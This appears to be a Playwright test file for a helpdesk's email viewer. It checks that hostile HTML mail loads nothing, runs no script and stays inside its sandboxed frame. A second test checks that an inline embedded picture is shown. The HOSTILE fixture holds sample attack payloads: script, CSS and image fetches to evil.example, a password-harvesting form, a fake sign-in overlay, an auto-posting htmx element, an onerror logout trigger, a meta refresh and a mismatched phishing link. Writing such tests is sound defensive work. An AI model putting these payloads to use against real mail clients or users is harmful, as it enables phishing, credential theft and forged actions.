"""Hostile mail in a real browser: it loads nothing, runs nothing, and stays in its frame."""

import base64

from playwright.sync_api import expect

from tests.browser.conftest import Desk, SignIn

DOT = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
HOSTILE = """<html><body>
<script>parent.document.title = 'taken over'; fetch('http://evil.example/script')</script>
<style>@import url('http://evil.example/style'); body { background: url(http://evil.example/bg) }</style>
<img src="http://evil.example/pixel.png" width=1 height=1>
<img src="/accounts/logout/" onerror="parent.document.title='taken over'">
<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9999">Sign in again</div>
<div hx-post="/tickets/1001/solve/" hx-trigger="load">x</div>
<form action="http://evil.example/form"><input name=password><button>Sign in</button></form>
<iframe src="http://evil.example/frame"></iframe><meta http-equiv=refresh content="0;url=http://evil.example/">
<table><tr><td>A faithful table</td></tr></table>
<a href="http://evil.example/phish">www.bank.example</a>
</body></html>"""


def test_a_hostile_mail_does_nothing(desk: Desk, sign_in: SignIn) -> None:
    desk.write("Hostile mail", "", html=HOSTILE)
    page = sign_in()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(f"{request.method} {request.url}"))
    page.goto("/inbox/open/?sort=newest")
    expect(page.locator(".ticket-row").first).to_contain_text("Hostile mail", timeout=4000)
    page.locator(".ticket-row").first.click()
    expect(page.locator("#ticket-subject")).to_have_text("Hostile mail")
    details = page.locator("details[data-frame] > summary")
    if details.count():
        details.first.click()
    frame = page.frame_locator("iframe.framed").first
    expect(frame.locator("td")).to_have_text("A faithful table")
    expect(frame.locator("body")).to_contain_text("[→ evil.example]")
    page.wait_for_timeout(500)
    assert not [one for one in asked if "evil.example" in one]
    assert not [one for one in asked if "logout" in one or "/solve/" in one]
    assert "taken over" not in page.title()
    assert frame.locator("form, input, script, iframe, style ~ style").count() == 0


def test_a_picture_inside_the_mail_is_shown(desk: Desk, sign_in: SignIn) -> None:
    html = '<p>Look:</p><img src="cid:picture" alt="The vase">'
    desk.write("Picture journey", "Look:", html=html, picture=DOT)
    page = sign_in()
    page.goto("/inbox/open/?sort=newest")
    expect(page.locator(".ticket-row").first).to_contain_text("Picture journey", timeout=4000)
    page.locator(".ticket-row").first.click()
    picture = page.frame_locator("iframe.framed").first.locator("img")
    # By its computed style: to read a property would run a script in the frame, which its sandbox forbids.
    # A picture that did not load has no width of its own ("auto").
    expect(picture).to_have_css("width", "1px")
